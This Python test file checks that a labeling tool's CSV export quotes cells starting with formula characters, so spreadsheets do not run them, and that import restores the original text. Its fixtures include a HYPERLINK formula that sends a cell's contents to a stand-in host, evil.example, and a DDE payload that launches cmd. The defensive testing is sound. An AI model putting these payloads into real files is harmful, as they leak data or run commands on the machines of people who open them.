"""Spreadsheet formula injection (issue 19, finding 5): a label, note or author that a spreadsheet
would run is written to the CSV after a quote; import removes it again; JSON stays exact."""

import csv
import json

from core.spans import Span
from labels.annotation_files import CSV_COLUMNS, export_spans, read_spans

# The review's example has quotes, which a label may no longer hold (core.spans.label_problem):
# it rides in a note, and the label is a formula a label may be.
EVIL_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"x")'
EVIL_LABEL = "=HYPERLINK(A1)"
SPANS = [
    Span("1", "BTC/USDT", "1m", 60_000, 120_000, EVIL_LABEL, "human", "accepted",
         note="@SUM(1+1)*cmd|' /C calc'!A0", author="-2+3"),
    Span("2", "BTC/USDT", "1m", 60_000, 180_000, "+flag", "human", "accepted",
         note="\t=1+1", author="\r=2"),
    Span("3", "BTC/USDT", "1m", 60_000, 240_000, "flag", "human", "accepted",
         note="'=already quoted", author="''@twice"),
    Span("4", "BTC/USDT", "1m", 60_000, 300_000, "a=b", "human", "accepted",
         note="plain - text", author="ana"),
    Span("5", "BTC/USDT", "1m", 60_000, 360_000, "flag", "human", "accepted",
         note=EVIL_TEXT, author="ana"),
]  # fmt: skip


def cells(path):
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert rows[0] == list(CSV_COLUMNS)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_no_csv_cell_starts_a_formula(tmp_path):
    rows = cells(export_spans(SPANS, tmp_path / "spans.csv"))
    for row in rows:
        for name, cell in row.items():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, cell)
    assert rows[0]["label"] == "'" + EVIL_LABEL and rows[0]["note"].startswith("'@")
    assert rows[0]["author"] == "'-2+3" and rows[1]["note"] == "'\t=1+1"
    assert rows[2]["note"] == "''=already quoted" and rows[2]["author"] == "'''@twice"
    assert rows[3]["label"] == "a=b" and rows[3]["note"] == "plain - text"
    assert rows[4]["note"] == "'" + EVIL_TEXT


def test_the_reviews_example_is_refused_as_a_label_with_the_rule():
    from core.spans import label_problem

    assert "not allowed" in label_problem(EVIL_TEXT)


def test_export_then_import_gives_back_the_same_text(tmp_path):
    assert read_spans(export_spans(SPANS, tmp_path / "spans.csv")) == SPANS


def test_json_stays_exact(tmp_path):
    path = export_spans(SPANS, tmp_path / "spans.json")
    labels = [item["label"] for item in json.loads(path.read_text(encoding="utf-8"))]
    assert labels == [s.label for s in SPANS]
    assert read_spans(path) == SPANS


def test_a_hand_written_quoted_formula_imports_without_its_quote(tmp_path):
    path = tmp_path / "hand.csv"
    path.write_text("symbol,timeframe,start,end,label,source,status,note\n"
                    "X,1m,0,60000,'=flag,human,accepted,'@note\n", encoding="utf-8")  # fmt: skip
    (span,) = read_spans(path)
    assert span.label == "=flag" and span.note == "@note"
